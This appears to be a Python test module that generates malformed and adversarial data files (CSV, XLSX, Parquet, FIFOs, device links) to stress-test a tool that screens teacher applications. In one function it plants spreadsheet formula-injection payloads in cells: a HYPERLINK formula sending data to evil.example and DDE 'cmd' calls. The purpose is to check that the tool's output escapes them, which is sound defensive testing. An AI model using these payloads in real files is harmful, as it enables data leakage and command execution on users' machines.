"""Bad data files: application forms to screen (every row must be accounted for), data
folders to report on, and published tables to check."""

from __future__ import annotations

import io
import os
import random
import shutil
from collections.abc import Callable, Sequence
from datetime import date, datetime, timedelta
from pathlib import Path

import polars as pl
import xlsxwriter

from tests.adversarial._case import (
    DATA,
    SHARED_DATA,
    SHARED_INPUT,
    SHARED_RULES,
    Builder,
    Case,
)
from tests.adversarial._files import Row, csv_bytes, inline, sheet_xml, write, xlsx_bytes

Writer = Callable[[Path], None]


def applications() -> tuple[list[str], list[list[str | None]]]:
    frame = pl.read_excel(DATA / "applications.xlsx", infer_schema_length=0)
    return frame.columns, [list(r) for r in frame.rows()]


HEADER, ROWS = applications()
COL = {name: i for i, name in enumerate(HEADER)}
STAJ = COL["Педагогический стаж, лет"]
SINCE = COL["Дата начала педагогической деятельности"]
DATE = COL["Дата подачи заявки"]
CATEGORY = COL["Квалификационная категория"]
NAME = COL["ФИО"]
ID = COL["Номер заявки"]
BOOL = COL["Высшее педагогическое образование"]


def rows(n: int = 12) -> list[list[str | None]]:
    return [list(r) for r in ROWS[:n]]


def with_values(column: int, values: Sequence[str | None]) -> list[list[str | None]]:
    """One row per value, each a copy of a real application with that cell replaced."""
    out = []
    for i, value in enumerate(values):
        row = list(ROWS[i % len(ROWS)])
        row[column] = value
        row[ID] = f"A-{i:03}"
        out.append(row)
    return out


def screen_args(file: str) -> tuple[str, ...]:
    return ("screen", "--rules", SHARED_RULES, file, "--format", "json")


class DataCases:
    def __init__(self, builder: Builder) -> None:
        self.builder = builder

    def screen(self, slug: str, about: str, file: str, make: Writer | bytes, count: int | None,
               *, first_row: int = 2, isolated: bool = False,
               args: tuple[str, ...] | None = None, **extra: object) -> None:
        name = f"data-{slug}"
        folder = self.builder.folder(name)
        if isinstance(make, bytes):
            write(folder / file, make)
        else:
            make(folder / file)
        self.builder.add(folder, Case(
            name=name, description=about, args=args or screen_args(file), rows=count,
            first_row=first_row, data_file=file if count is not None else None,
            inputs=(SHARED_INPUT,), isolated=isolated, tags=("data",), **extra))  # type: ignore[arg-type]

    def csv(self, slug: str, about: str, body: Sequence[Row], *, header: Row = HEADER,
            count: int | None = None, **options: object) -> None:
        data = csv_bytes(header, body, **options)  # type: ignore[arg-type]
        self.screen(slug, about, "applications.csv", data,
                    len(body) if count is None else count)


def _xlsx_writer(sheets: Sequence[tuple[str, Sequence[Row]]], *, protect: bool = False,
                 dates: bool = False) -> bytes:
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer, {"in_memory": True, "strings_to_numbers": False,
                                      "strings_to_formulas": False}) as book:
        book.set_properties({"created": datetime(2023, 5, 31)})
        date_format = book.add_format({"num_format": "dd.mm.yyyy"})
        for name, table in sheets:
            sheet = book.add_worksheet(name)
            for r, row in enumerate(table):
                for c, value in enumerate(row):
                    if value is None:
                        continue
                    if dates and r > 0 and c in (DATE, SINCE):
                        try:
                            sheet.write_datetime(r, c, datetime.strptime(value, "%d.%m.%Y"),
                                                 date_format)
                            continue
                        except ValueError:
                            pass
                    sheet.write_string(r, c, value)
            if protect:
                sheet.protect("secret")
    return buffer.getvalue()


def csv_cases(cases: DataCases) -> None:
    base = rows(12)
    cases.csv("cp1251", "a CSV saved as Windows-1251", base, encoding="cp1251")
    mixed = csv_bytes(HEADER, base[:6]) + csv_bytes(HEADER, base[6:], encoding="cp1251")
    mixed = mixed.replace(b";".join(h.encode("cp1251") for h in HEADER) + b"\n", b"", 1)
    cases.screen("cp1251-mixed-utf8", "cp1251 lines mixed with UTF-8 lines",
                 "applications.csv", mixed, 12)
    cases.csv("utf16", "a CSV saved as UTF-16 with BOM", base, encoding="utf-16")
    cases.csv("utf16-be", "UTF-16 big-endian without BOM", base, encoding="utf-16-be")
    cases.screen("utf8-bom", "a UTF-8 byte-order mark", "applications.csv",
                 b"\xef\xbb\xbf" + csv_bytes(HEADER, base), 12)
    cases.screen("bom-twice", "two byte-order marks", "applications.csv",
                 b"\xef\xbb\xbf\xef\xbb\xbf" + csv_bytes(HEADER, base), 12)
    cases.csv("cr-only", "CR-only line endings", base, newline="\r")
    cases.csv("crlf", "CRLF line endings", base, newline="\r\n")
    cases.csv("comma", "comma separated, quoted cells", base, sep=",")
    cases.csv("tab", "tab separated", base, sep="\t")
    cases.csv("quote-all", "every cell quoted", base, quote_all=True)


def csv_shape_cases(cases: DataCases) -> None:
    base = rows(12)
    ragged_long = [[*r, "лишнее"] if i % 3 == 0 else r for i, r in enumerate(base)]
    cases.csv("ragged-long", "rows with an extra cell", ragged_long)
    ragged_short = [r[:5] if i % 4 == 1 else r for i, r in enumerate(base)]
    cases.csv("ragged-short", "rows with missing cells", ragged_short)
    trailing = csv_bytes(HEADER, base).replace(b"\n", b";\n")
    cases.screen("trailing-separator", "a separator at the end of every line",
                 "applications.csv", trailing, 12)
    title = "Заявки на включение в РМА, 2023 год".encode() + b"\n"
    cases.screen("title-line", "a title line above the headers", "applications.csv",
                 title + csv_bytes(HEADER, base), 12)
    cases.screen("title-lines-blank", "two title lines and a blank line above the headers",
                 "applications.csv", title + b"\xd0\x9a\xd0\x9e\xd0\x98\xd0\xa0\xd0\x9e\n\n"
                 + csv_bytes(HEADER, base), 12)
    cases.screen("unbalanced-quote", "an unbalanced quote in a cell", "applications.csv",
                 csv_bytes(HEADER, base).replace("Соколова".encode(), b'"\xd0\xa1okolova', 1), 12)
    newline_cell = [list(r) for r in base]
    newline_cell[2][NAME] = "Иванова\nМария\r\nИвановна"
    cases.csv("newline-in-cell", "line breaks inside a quoted cell", newline_cell)
    two_line_header = list(HEADER)
    two_line_header[STAJ] = "Педагогический\nстаж"  # Alt+Enter in an Excel header
    cases.csv("header-over-two-lines", "a header written over two lines (read as one line)",
              base, header=two_line_header)
    nul = [list(r) for r in base]
    nul[1][NAME] = "Пет\x00ров"
    nul[3][STAJ] = "1\x002"
    cases.csv("nul-bytes", "NUL bytes in cells", nul)
    cases.screen("invalid-utf8", "bytes that are neither UTF-8 nor meaningful cp1251",
                 "applications.csv", csv_bytes(HEADER, base).replace(
                     "Соколова".encode(), b"\xed\xa0\x80\x98\xff", 1), 12)
    cases.screen("only-header", "headers and no rows", "applications.csv",
                 csv_bytes(HEADER, []), 0)
    cases.screen("zero-bytes", "an empty file", "applications.csv", b"", 0)
    cases.screen("only-bom", "only a byte-order mark", "applications.csv", b"\xef\xbb\xbf", 0)
    cases.screen("only-newlines", "only blank lines", "applications.csv", b"\n\n\n\r\n", 0)


def csv_value_cases(cases: DataCases) -> None:
    base = rows(12)
    formulas = [list(r) for r in base]
    formulas[0][NAME] = '=HYPERLINK("http://evil.example/?"&A1, "Нажмите")'
    formulas[1][NAME] = "+cmd|' /C calc'!A0"
    formulas[2][NAME] = "@SUM(1+1)*cmd|' /C calc'!A0"
    formulas[3][NAME] = "-2+3+cmd|' /C calc'!A0"
    formulas[4][COL["Муниципалитет"]] = "\t=1+1"
    formulas[5][COL["Муниципалитет"]] = "\r=1+1"
    formulas[6][ID] = "=1+1"
    name = "data-formula-text"
    folder = cases.builder.folder(name)
    write(folder / "applications.csv", csv_bytes(HEADER, formulas))
    cases.builder.add(folder, Case(
        name=name, description="formula-looking text in cells, written back out as CSV",
        args=("screen", "--rules", SHARED_RULES, "applications.csv", "--format", "csv",
              "-o", "out/screening.csv"),
        inputs=(SHARED_INPUT,), csv_outputs=("out/screening.csv",), tags=("data", "output")))
    fullwidth = list(HEADER)
    fullwidth[ID] = "Ｎомер заявки"
    fullwidth[STAJ] = "Педагогический стаж, лет".replace("е", "e")  # Latin e
    cases.csv("lookalike-headers", "fullwidth and Latin lookalike letters in headers", base,
              header=fullwidth)
    duplicate = [*HEADER, HEADER[STAJ]]
    cases.csv("duplicate-header", "a header twice with different values",
              [[*r, "999"] for r in base], header=duplicate)
    blank_header = list(HEADER)
    blank_header[NAME] = ""
    blank_header[CATEGORY] = "  "
    cases.csv("blank-headers", "blank header cells", base, header=blank_header)
    cases.csv("headers-only-unknown", "no header Mayak knows",
              base, header=[f"Столбец {i}" for i in range(len(HEADER))])
    order = [list(r) for r in base]
    for row, (since, applied) in zip(order, [("01.05.2023", "15.10.2022"),
                                             ("15.10.2022", "15.10.2022"),
                                             ("16.10.2022", "15.10.2022")], strict=False):
        row[STAJ], row[SINCE], row[DATE] = None, since, applied
    cases.csv("dates-out-of-order", "teaching starts after the application was filed", order)
    cases.screen("upper-case-suffix", "a file named applications.CSV", "applications.CSV",
                 csv_bytes(HEADER, base), len(base))
    cases.csv("long-decimals", "years of service at the bound with many decimals (shown "
              "exactly in the explanations)",
              with_values(STAJ, ["4,9999999999", "4,999999999999999", "5,000000000001",
                                 "0,0000001", "-0", "69,99999999999999", "4,99999"]))


def csv_key_cases(cases: DataCases) -> None:
    base = rows(12)
    dups = [list(ROWS[i % 3]) for i in range(300)]
    cases.csv("duplicate-keys-300", "300 rows, every key repeated 100 times", dups)
    many_ids = [list(r) for r in rows(60)]
    for i, r in enumerate(many_ids):
        r[ID] = f"A-{i % 55}"
    cases.csv("duplicate-keys-over-limit", "more repeated keys than are listed", many_ids)
    numbers = ["1e309", "inf", "-inf", "nan", "NaN", "-0", "1,5e3", "１２", "٣", "12 лет",
               "9" * 400, "0x10", "1_000", "+5", "5-", "7,5,5", "1.234,5", "１２,５", "∞",
               "10\u00a0000", "5\u2009", "⁵", "Ⅻ", "", " ", "—", "н/д"]
    cases.csv("numbers", "odd numbers in a number column", with_values(STAJ, numbers))
    dates = ["31.02.2023", "29.02.2023", "29.02.2024", "00.00.0000", "99999999", "-1",
             "2023-13-01", "01.01.0001", "31.12.9999", "45000", "45000.5", "2958466",
             "1e10", "60", "0", "32.01.2023", "1.1.23", "2023/01/01", "2023-01-01T00:00:00",
             "2023-01-01 25:00:00", "сегодня", "01.01.2023 г.", "１.１.２０２３", ""]
    since = list(dates)
    cases.csv("dates", "impossible and odd dates", with_values(DATE, dates))
    negative = with_values(SINCE, since)
    for row in negative:
        row[STAJ] = None
    cases.csv("dates-since", "odd start dates, experience computed from them", negative)
    future = with_values(SINCE, ["01.01.2030", "31.12.9999", "01.09.2022", "28.10.2022"])
    for row in future:
        row[STAJ] = None
        row[DATE] = "27.10.2022"
    cases.csv("negative-durations", "teaching started after the application", future)
    categories = ["Высшая", "ВЫСШАЯ", "высшая\u200b", "высшая\u00a0", "вы́сшая", "высшая",
                  "Высшая категория", "высш", "высш.", "высш..", "highest", "в ы с ш а я",
                  "первая,высшая", "\ufeffвысшая", "высшая\t", "ВысшаЯ"]
    cases.csv("categories", "lookalike, zero-width and accented categories",
              with_values(CATEGORY, categories))
    booleans = ["ДА", "Да ", "yes", "1.0", "истинно", "✓", "x", "+", "-", "да/нет", "дa",
                "нет.", "0,0", "ложь", "true", "Нет", "н", "ДаНет", "2"]
    cases.csv("booleans", "odd yes/no values", with_values(BOOL, booleans))
    wide_header = [*HEADER, *[f"Лишний {i}" for i in range(5000)]]
    cases.csv("very-wide", "5000 unknown columns", [[*r, *(["x"] * 5000)] for r in base[:3]],
              header=wide_header)
    huge = [list(r) for r in base[:3]]
    huge[0][NAME] = "Я" * 1_000_000
    cases.csv("huge-cell", "a cell of a million characters", huge)
    blank_rows = csv_bytes(HEADER, base).replace(b"\n", b"\n;;;\n\n", 30)
    cases.screen("blank-rows", "blank rows between the applications", "applications.csv",
                 blank_rows, None)
    cases.screen("semicolon-and-comma", "a header with both separators", "applications.csv",
                 csv_bytes([h.replace(", лет", ",лет") for h in HEADER], base, sep=","), 12)
    rng = random.Random(7)
    noisy = [[None if rng.random() < 0.3 else v for v in r] for r in rows(69)]
    cases.csv("random-blanks", "random blank cells in 69 applications", noisy)
    cases.csv("many-rows", "300 applications with unique numbers",
              [[f"N-{i}", *ROWS[i % 69][1:]] for i in range(300)])


def _far_dates(table: Sequence[Row]) -> bytes:
    """Typed date cells at and beyond the end of Excel's calendar."""
    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer, {"in_memory": True}) as book:
        book.set_properties({"created": datetime(2023, 5, 31)})
        sheet = book.add_worksheet("Заявки")
        for r, row in enumerate(table):
            for c, value in enumerate(row):
                if value is not None:
                    sheet.write_string(r, c, value)
        date_format = book.add_format({"num_format": "dd.mm.yyyy"})
        for r, serial in enumerate((2_958_466, 2_958_465.99999, 3_000_000, 1e20), start=1):
            sheet.write_number(r, DATE, serial, date_format)
            sheet.write_number(r, SINCE, serial, date_format)
    return buffer.getvalue()


def xlsx_cases(cases: DataCases) -> None:
    base = rows(10)
    table: list[Row] = [HEADER, *base]
    instructions: list[Row] = [["Инструкция по заполнению"], ["Заполните лист «Заявки»."]]
    cases.screen("xlsx-instruction-first", "an instruction sheet before the data",
                 "applications.xlsx", _xlsx_writer([("Инструкция", instructions),
                                                    ("Заявки", table)]), 10)
    cases.screen("xlsx-several-sheets", "two sheets of applications", "applications.xlsx",
                 _xlsx_writer([("Лист1", table), ("Лист2", [HEADER, *rows(20)[10:]])]), 10)
    cases.screen("xlsx-empty-first", "an empty first sheet", "applications.xlsx",
                 _xlsx_writer([("Пусто", []), ("Заявки", table)]), 10)
    cases.screen("xlsx-protected-sheet", "a protected sheet", "applications.xlsx",
                 _xlsx_writer([("Заявки", table)], protect=True), 10)
    cases.screen("xlsx-date-cells", "real date cells", "applications.xlsx",
                 _xlsx_writer([("Заявки", table)], dates=True), 10)
    cases.screen("xlsx-title-rows", "title rows above the headers", "applications.xlsx",
                 _xlsx_writer([("Заявки", [["Заявки в РМА"], [], *table])]), 10)
    formulas = ('<c r="I11"><f>1/0</f></c><c r="E11"><f>TODAY()</f></c>'
                '<c r="K11"><f>A1&amp;B1</f></c>')
    cases.screen("xlsx-formula-no-value", "formula cells without cached values",
                 "applications.xlsx", xlsx_bytes([("Заявки", sheet_xml(
                     [HEADER, *[r[:8] for r in base]], extra_cells=formulas))]), 10)
    errors = ('<c r="I11" t="e"><v>#DIV/0!</v></c><c r="E11" t="e"><v>#N/A</v></c>'
              '<c r="K11" t="e"><v>#VALUE!</v></c><c r="F11" t="e"><v>#REF!</v></c>')
    cases.screen("xlsx-error-cells", "Excel error cells", "applications.xlsx",
                 xlsx_bytes([("Заявки", sheet_xml([HEADER, *[r[:4] for r in base]],
                                                  extra_cells=errors))]), 10)
    typed = ('<c r="I11"><v>1E+308</v></c><c r="F11" t="b"><v>1</v></c>'
             '<c r="E11"><v>-5</v></c><c r="J11"><v>60</v></c><c r="I10"><v>NaN</v></c>')
    cases.screen("xlsx-typed-cells", "numbers, booleans and serial dates as typed cells",
                 "applications.xlsx", xlsx_bytes([("Заявки", sheet_xml(
                     [HEADER, *[r[:4] for r in base]], extra_cells=typed))]), 10)
    cases.screen("xlsx-dates-beyond-9999", "date cells after 31.12.9999 (01.01.10000 on)",
                 "applications.xlsx", _far_dates(table), 10)
    cases.screen("xlsx-shared-missing", "a shared-string cell pointing nowhere",
                 "applications.xlsx", xlsx_bytes([("Заявки", sheet_xml(
                     [HEADER, *base], extra_cells='<c r="O11" t="s"><v>99</v></c>'))]), 10)
    cases.screen("xlsx-far-cell", "one cell far away (XFD1048576)", "applications.xlsx",
                 xlsx_bytes([("Заявки", sheet_xml([HEADER, *base], extra_cells=inline(
                     "XFD1048576", "x")))]), 10, isolated=True)
    cases.screen("xlsx-huge-dimension", "a dimension that claims a million rows",
                 "applications.xlsx", xlsx_bytes([("Заявки", sheet_xml(
                     [HEADER, *base], dimension="A1:XFD1048576"))]), 10, isolated=True)
    cases.screen("xlsx-bad-xml-char", "a control character in the sheet XML",
                 "applications.xlsx", xlsx_bytes([("Заявки", sheet_xml(
                     [HEADER, *base]).replace("Соколова", "Соко\x01лова", 1))]), 10)
    cases.screen("xlsx-truncated", "a workbook cut in half", "applications.xlsx",
                 (DATA / "applications.xlsx").read_bytes()[:8000], 69)
    cases.screen("xlsx-encrypted", "a password-protected workbook (OLE container)",
                 "applications.xlsx", bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 4088
                 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 512, 0)
    cases.screen("xlsx-is-csv", "a CSV renamed to .xlsx", "applications.xlsx",
                 csv_bytes(HEADER, base), 10)
    cases.screen("csv-is-xlsx", "a workbook renamed to .csv", "applications.csv",
                 (DATA / "applications.xlsx").read_bytes(), 69)
    cases.screen("xlsx-no-sheets", "a workbook without sheets", "applications.xlsx",
                 xlsx_bytes([]), 0)
    cases.screen("xlsx-only-header", "a sheet with headers only", "applications.xlsx",
                 _xlsx_writer([("Заявки", [HEADER])]), 0)
    cases.screen("xlsx-upper-suffix", "upper-case suffix .XLSX", "applications.XLSX",
                 _xlsx_writer([("Заявки", table)]), 10)
    many: list[Row] = [HEADER, *[[f"N-{i}", *ROWS[i % 69][1:]] for i in range(300)]]
    cases.screen("xlsx-300", "300 applications in XLSX, output as XLSX", "applications.xlsx",
                 _xlsx_writer([("Заявки", many)]), None,
                 args=("screen", "--rules", SHARED_RULES, "applications.xlsx", "--format",
                       "xlsx", "-o", "out/screening.xlsx"))


def _parquet(frame: pl.DataFrame) -> Writer:
    return lambda path: frame.write_parquet(path, statistics=False)


def parquet_cases(cases: DataCases) -> None:
    n = 8
    text = pl.DataFrame({h: [r[i] for r in ROWS[:n]] for i, h in enumerate(HEADER)},
                        schema=dict.fromkeys(HEADER, pl.String))

    def variant(slug: str, about: str, frame: pl.DataFrame, count: int | None = n) -> None:
        cases.screen(f"parquet-{slug}", about, "applications.parquet", _parquet(frame), count,
                     first_row=1)

    variant("text", "all columns as text", text)
    variant("nested", "struct and list columns", text.with_columns(
        pl.struct(pl.col(HEADER[STAJ]), pl.col(HEADER[NAME])).alias(HEADER[STAJ]),
        pl.col(HEADER[CATEGORY]).map_batches(lambda s: s.str.split(" ")).alias(
            HEADER[CATEGORY])))
    variant("int-dates", "integers in date columns", text.with_columns(
        pl.Series(HEADER[DATE], [45000, -1, 0, 2**40, 20231027, 60, None, 10**15],
                  dtype=pl.Int64)))
    variant("uint-dates", "huge unsigned integers in a date column", text.with_columns(
        pl.Series(HEADER[DATE], [2**64 - 1] * n, dtype=pl.UInt64)))
    variant("datetime-tz", "datetimes with a time zone", text.with_columns(
        pl.Series(HEADER[DATE], [datetime(2022, 10, 27, 23, 30)] * n)
        .dt.replace_time_zone("Asia/Kamchatka")))
    variant("duration", "a duration in a number column", text.with_columns(
        pl.Series(HEADER[STAJ], [timedelta(days=1900), timedelta(days=-5)] * (n // 2))))
    variant("time", "a time of day in a date column", text.with_columns(
        pl.Series(HEADER[DATE], [None] * n, dtype=pl.Time)))
    variant("floats", "NaN, inf and huge floats as numbers", text.with_columns(
        pl.Series(HEADER[STAJ], [float("nan"), float("inf"), -float("inf"), 1e308, -0.0,
                                 5.0, None, 4.999999999999999])))
    variant("decimal", "a decimal column", text.with_columns(
        pl.Series(HEADER[STAJ], ["5.5"] * n).cast(pl.Decimal(38, 10))))
    variant("bool-typed", "real booleans and integers for yes/no", text.with_columns(
        pl.Series(HEADER[BOOL], [True, False, None] * 2 + [True, False]),
        pl.Series(HEADER[BOOL + 1], [1, 0, 2, -1, None, 1, 0, 1], dtype=pl.Int8)))
    variant("binary", "a binary column", text.with_columns(
        pl.Series(HEADER[NAME], [b"\xff\xfe"] * n, dtype=pl.Binary)))
    variant("categorical", "categorical and enum columns", text.with_columns(
        pl.col(HEADER[CATEGORY]).cast(pl.Categorical),
        pl.col(HEADER[COL["Предметная область"]]).cast(pl.Enum(sorted({
            r[COL["Предметная область"]] or "" for r in ROWS})))))
    variant("null-column", "a column of type Null", text.with_columns(
        pl.lit(None).alias(HEADER[STAJ])))
    variant("date-typed", "real dates, one before 1900", text.with_columns(
        pl.Series(HEADER[DATE], [date(1, 1, 1), date(9999, 12, 31), date(1899, 12, 31),
                                 date(2022, 10, 27)] * 2)))
    variant("zero-rows", "a Parquet file without rows", text.head(0), 0)
    variant("russian-dup", "two columns that fold to one header", text.with_columns(
        pl.col(HEADER[STAJ]).alias(HEADER[STAJ].upper() + " ")))
    cases.screen("parquet-no-columns", "a Parquet file without columns",
                 "applications.parquet", _parquet(pl.DataFrame()), 0, first_row=1)
    def truncated(path: Path) -> None:
        _parquet(text)(path)
        path.write_bytes(path.read_bytes()[:300])

    cases.screen("parquet-truncated", "a Parquet file cut short", "applications.parquet",
                 truncated, n, first_row=1)
    cases.screen("parquet-is-csv", "a CSV renamed to .parquet", "applications.parquet",
                 csv_bytes(HEADER, rows(5)), 5, first_row=1)


def special_files(cases: DataCases) -> None:
    """Inputs that are not plain files; made at run time."""
    def fifo(path: Path) -> None:
        os.mkfifo(path)

    def loop(path: Path) -> None:
        os.symlink(path.name, path)

    def zero(path: Path) -> None:
        os.symlink("/dev/zero", path)

    def urandom(path: Path) -> None:
        os.symlink("/dev/urandom", path)

    def folder(path: Path) -> None:
        path.mkdir()

    for slug, make, about in (("fifo", fifo, "the applications file is a FIFO"),
                              ("symlink-loop", loop, "the applications file links to itself"),
                              ("dev-zero", zero, "the applications file is /dev/zero"),
                              ("dev-urandom", urandom, "the applications file is /dev/urandom"),
                              ("folder", folder, "the applications «file» is a folder")):
        cases.screen(f"special-{slug}", about, "applications.csv", make, 0, isolated=True)
    cases.screen("special-dev-null", "the applications file is /dev/null", "x.csv",
                 b"", 0, args=screen_args("/dev/null"), isolated=True)
    cases.screen("special-bad-name", "a file name that is not valid UTF-8",
                 os.fsdecode(b"\xff\xfe.csv"), csv_bytes(HEADER, rows(3)), 3)


def _to_fifo(path: Path) -> None:
    path.unlink()
    os.mkfifo(path)


def report_cases(builder: Builder) -> None:
    """Data folders for ``mayak report``: a copy of the example data with one file broken."""
    agreements = DATA / "community_agreements.csv"
    staff = DATA / "event_staff.csv"
    broken: list[tuple[str, str, Callable[[Path], object], str]] = [
        ("staff-cp1251", "event_staff.csv", lambda p: p.write_bytes(
            staff.read_bytes().decode().encode("cp1251")), "event staff in cp1251"),
        ("staff-ragged", "event_staff.csv", lambda p: p.write_bytes(
            staff.read_bytes().replace(b"\n", b",x\n", 3)), "ragged rows in event staff"),
        ("staff-xlsx-and-csv", "event_staff.xlsx", lambda p: p.write_bytes(
            _xlsx_writer([("Лист1", [["Идентификатор"], ["E1"]])])),
         "the same dataset as CSV and XLSX"),
        ("agreements-years", "community_agreements.csv", lambda p: p.write_bytes(
            agreements.read_bytes() + "Сообщество;99999999999999999999;да\nX;-1;да\n"
            "Y;2023.5;да\nZ;1e3;нет\n".replace(";", ",").encode()),
         "impossible years"),
        ("agreements-nested", "community_agreements.parquet", lambda p: pl.DataFrame(
            {"Сообщество": [{"a": 1}], "Год": [[2023]], "Договор": [True]})
         .write_parquet(p), "nested columns in Parquet beside a CSV"),
        ("agreements-no-period", "community_agreements.csv", lambda p: p.write_bytes(
            agreements.read_bytes() + "A;;да\nB; ;да\nC;н/д;да\nD;2023 г.;да\n".replace(
                ";", ",").encode()), "agreements with no year, «н/д» and «2023 г.» as years"),
        ("agreements-one-year", "community_agreements.csv", lambda p: p.write_bytes(
            b"\n".join(line for line in agreements.read_bytes().splitlines()
                       if b",2022," not in line) + b"\n"),
         "agreements of the reporting year only (the previous one has no rows)"),
        ("agreements-other-years", "community_agreements.csv", lambda p: p.write_bytes(
            agreements.read_bytes().replace(b",2023,", b",2031,").replace(b",2022,", b",1999,")),
         "agreements of other years only (no row in the period or the one before)"),
        ("teachers-missing", "teachers.csv", lambda p: p.unlink(), "no teachers file"),
        ("teachers-fifo", "teachers.csv", _to_fifo, "the teachers file is a FIFO"),
        ("teachers-title", "teachers.csv", lambda p: p.write_bytes(
            "Педагоги региона\n".encode() + p.read_bytes()), "a title line in teachers"),
        ("rma-broken", "rma.csv", lambda p: p.write_bytes(
            "Номер заявки;Решение\n1;включён\n2;=1+1\n".encode()),
         "a hand-edited screening result"),
    ]
    for slug, file, make, about in broken:
        name = f"report-{slug}"
        folder = builder.folder(name)
        shutil.copytree(DATA, folder / "data")
        make(folder / "data" / file)
        isolated = "fifo" in slug
        builder.add(folder, Case(name=name, description=about, args=(
            "report", "--rules", SHARED_RULES, "--data", "data", "--format", "json"),
            inputs=(SHARED_INPUT,), isolated=isolated, tags=("data", "report")))


def table_cases(builder: Builder) -> None:
    """Published tables for ``mayak check-table``."""
    published = (DATA.parent / "table1-published.csv").read_bytes()
    tables = [
        ("formula", published.replace(b"68", b"=SUM(B2:B9)", 1), "a formula in the table"),
        ("huge", published.replace(b"68", b"9" * 400, 1), "a 400-digit number"),
        ("negative", published.replace(b"68", b"-68", 1), "a negative count"),
        ("fraction", published.replace(b"68", b"68,5", 1), "a fraction"),
        ("empty", b"", "an empty table"),
        ("cp1251", published.decode().encode("cp1251"), "the table in cp1251"),
        ("ragged", published.replace(b"\n", b";;;\n", 2), "ragged rows"),
        ("only-header", published.split(b"\n")[0] + b"\n", "headers only"),
        ("duplicate-group", published + published.split(b"\n")[1] + b"\n",
         "a group printed twice"),
    ]
    for slug, body, about in tables:
        name = f"table-{slug}"
        folder = builder.folder(name)
        write(folder / "table.csv", body)
        builder.add(folder, Case(name=name, description=about, args=(
            "check-table", "--rules", SHARED_RULES, f"{SHARED_DATA}/applications.xlsx",
            "--published", "table.csv"), inputs=(SHARED_INPUT,), tags=("data", "table")))


def data_cases(builder: Builder) -> None:
    cases = DataCases(builder)
    csv_cases(cases)
    csv_shape_cases(cases)
    csv_value_cases(cases)
    csv_key_cases(cases)
    xlsx_cases(cases)
    parquet_cases(cases)
    special_files(cases)
    report_cases(builder)
    table_cases(builder)
